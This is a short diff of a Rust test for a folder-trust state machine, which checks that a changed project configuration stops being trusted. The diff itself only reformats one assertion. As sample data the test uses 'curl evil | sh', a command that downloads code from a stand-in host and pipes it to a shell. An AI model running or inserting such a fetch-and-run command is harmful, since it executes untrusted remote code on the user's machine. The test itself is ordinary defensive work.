@@ -70,7 +70,10 @@ fn a_changed_configuration_is_not_trusted_and_the_difference_is_known() {
     assert_eq!(changed.folder_configuration(), FolderConfiguration::Ignored);
     machine.decide("home/project", "curl evil | sh", Decision::Trust).unwrap();
     assert_eq!(machine.state("home/project", "curl evil | sh"), TrustState::Trusted(TrustedBy::Person));
-    assert!(matches!(machine.state("home/project", "make"), TrustState::Changed(_)), "the old one is not trusted any more");
+    assert!(
+        matches!(machine.state("home/project", "make"), TrustState::Changed(_)),
+        "the old one is not trusted any more"
+    );
 }
 
 #[test]
